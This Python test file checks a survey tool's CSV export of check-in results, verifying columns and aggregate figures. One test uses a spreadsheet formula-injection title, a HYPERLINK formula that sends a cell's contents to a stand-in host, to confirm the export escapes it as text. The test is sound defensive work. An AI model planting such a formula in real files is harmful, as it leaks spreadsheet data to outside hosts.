"""A round's results as CSV: the documented layout, aggregated figures only."""

from __future__ import annotations

import csv
import io

from leadcards.checkin.export import COLUMNS, CSV_FORMAT, results_csv
from leadcards.checkin.files import invitation_for
from leadcards.checkin.results import Answer, CardAsked, results
from leadcards.library import builtin_decks


def test_the_csv_holds_the_documented_columns_and_the_round_figures() -> None:
    deck = next(d for d in builtin_decks() if d.id == "system-leadership-behaviours")
    invitation = invitation_for(deck, ["trust", "mindset"], title="Team, March", space="team")
    answers = [
        Answer(frozenset({"trust.p1"}), {"trust": position, "mindset": -1})
        for position in (-2, 0, 1, 3, 3)
    ]
    asked = [
        CardAsked(c.card_id, tuple(i.indicator_id for i in c.indicators)) for c in invitation.cards
    ]
    found = results(answers, asked, minimum=invitation.min_group)
    rows = list(csv.DictReader(io.StringIO(results_csv(invitation, 2, found))))
    assert tuple(rows[0]) == COLUMNS
    assert "at_minus_5" in COLUMNS and "at_5" in COLUMNS
    assert {r["format"] for r in rows} == {CSV_FORMAT}
    assert {(r["checkin"], r["round"], r["people"], r["space"]) for r in rows} == {
        (invitation.checkin_id, "2", "5", "team")
    }
    trust = next(r for r in rows if r["kind"] == "position" and r["card"] == "trust")
    assert (trust["answers"], trust["median"]) == ("5", "1")
    assert float(trust["lower_quartile"]) == found.spreads[0].middle_half[0]
    assert [int(trust[f"at_{n}".replace("-", "minus_")]) for n in range(-5, 6)] == list(
        found.spreads[0].counts
    )
    indicators = [r for r in rows if r["kind"] == "indicator"]
    assert len(indicators) == sum(len(c.indicators) for c in invitation.cards)
    p1 = next(r for r in indicators if r["indicator"] == "trust.p1")
    assert (float(p1["share"]), p1["polarity"]) == (1.0, "positive")
    assert len(rows) == len(found.spreads) + len(indicators)


def test_a_title_that_looks_like_a_formula_is_kept_as_text() -> None:
    deck = next(d for d in builtin_decks() if d.id == "trace")
    title = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
    invitation = invitation_for(deck, title=title)
    asked = [
        CardAsked(c.card_id, tuple(i.indicator_id for i in c.indicators)) for c in invitation.cards
    ]
    found = results([Answer(frozenset())] * 5, asked, minimum=5)
    rows = list(csv.DictReader(io.StringIO(results_csv(invitation, 1, found))))
    assert {r["title"] for r in rows} == {"'" + title}
